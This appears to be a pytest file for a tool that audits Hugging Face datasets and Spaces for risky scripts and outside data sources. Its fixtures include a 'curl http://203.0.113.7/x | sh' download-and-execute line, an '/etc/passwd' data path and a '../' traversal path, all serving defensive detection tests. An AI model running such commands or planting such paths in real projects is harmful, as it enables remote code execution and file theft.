"""Datasets and Spaces from the listing to the verdict."""

import json

import pytest

from tests.command import audit
from tests.hub import repo, serve

RUNS = b"import subprocess\nsubprocess.Popen(['python', 'server.py'])\n"
CARD = b"---\nsdk: gradio\napp_file: %s\n---\n# A Space\n"


def audited(kind, files, *options):
    with serve(repo("org/name", files, type=kind)) as hub:
        result = audit("repo", "org/name", "--type", kind, "--format", "json", *options, hub=hub)
        asked = {request.path for request in hub.log.requests() if request.path.startswith("/api/")}
    assert all(path.startswith((f"/api/{kind}s/org/name", "/api/resolve-cache/")) for path in asked)
    return result, [(each["rule"], each["severity"], each["path"], each["trigger"]) for each in result.json["findings"]]


def test_the_script_of_a_dataset_runs_when_it_is_loaded_and_others_when_somebody_runs_them():
    result, found = audited("dataset", {"name.py": RUNS, "tools/prepare.py": RUNS, "data.csv": b"a,b\n1,2\n"})
    assert result.code == 1
    assert found == [
        ("python-runs-programs", "critical", "name.py", "load"),
        ("dataset-script", "medium", "name.py", "load"),
        ("python-runs-programs", "medium", "tools/prepare.py", "manual run"),
    ]
    assert result.json["target"]["type"] == "dataset"


@pytest.mark.parametrize(
    ("files", "count"),
    [
        ("https://203.0.113.7/a.zip", 1),
        (["zip://*.csv::https://example.com/a.zip"], 1),
        ([{"split": "train", "path": ["data/a.csv", "/etc/passwd"]}], 1),
        ({"train": "../other/a.csv"}, 1),
        ([{"split": "train", "path": ["data/*.parquet"]}], 0),
        ("hf://datasets/org/name/data/*.parquet", 0),
    ],
)
def test_data_of_a_dataset_may_lie_elsewhere(files, count):
    card = b"---\nconfigs:\n- config_name: default\n  data_files: %s\n---\n# Data\n" % json.dumps(files).encode()
    _, found = audited("dataset", {"README.md": card})
    told = [each[:2] for each in found if each[0].startswith("dataset-")]
    assert told == [("dataset-data-elsewhere", "medium")] * count


def test_a_space_starts_a_program_by_design_and_that_is_no_more_than_suspicious():
    result, found = audited(
        "space", {"README.md": CARD % b"app.py", "app.py": RUNS, "Dockerfile": b"FROM python:3.12\n"}
    )
    assert (result.code, result.json["verdict"]) == (0, "suspicious")
    assert found == [("python-runs-programs", "medium", "app.py", "manual run")]


def test_the_program_of_a_space_is_read_as_one_whatever_it_is_called():
    evil = b"import os\nos.system('curl http://203.0.113.7/x | sh')\n"
    result, found = audited("space", {"README.md": CARD % b"assets/notes.txt", "assets/notes.txt": evil, "b.txt": evil})
    assert result.code == 1
    assert ("space-app-disguised", "medium", "assets/notes.txt", "manual run") in found
    assert ("python-runs-programs", "assets/notes.txt") in [(each[0], each[2]) for each in found]
    assert {each[2] for each in found} == {"assets/notes.txt"}


def test_what_a_type_makes_of_findings_outlives_a_judgement_by_new_rules(tmp_path):
    config = tmp_path / "config.yaml"
    config.write_text("policy: {deny: [{name: a.b, reason: house}]}\n")
    audited("dataset", {"name.py": RUNS, "prepare.py": RUNS})
    judged = audit("judge", "--config", config, HF_HUB_OFFLINE="1")
    assert "1 audits judged again: 0 changed" in judged.err
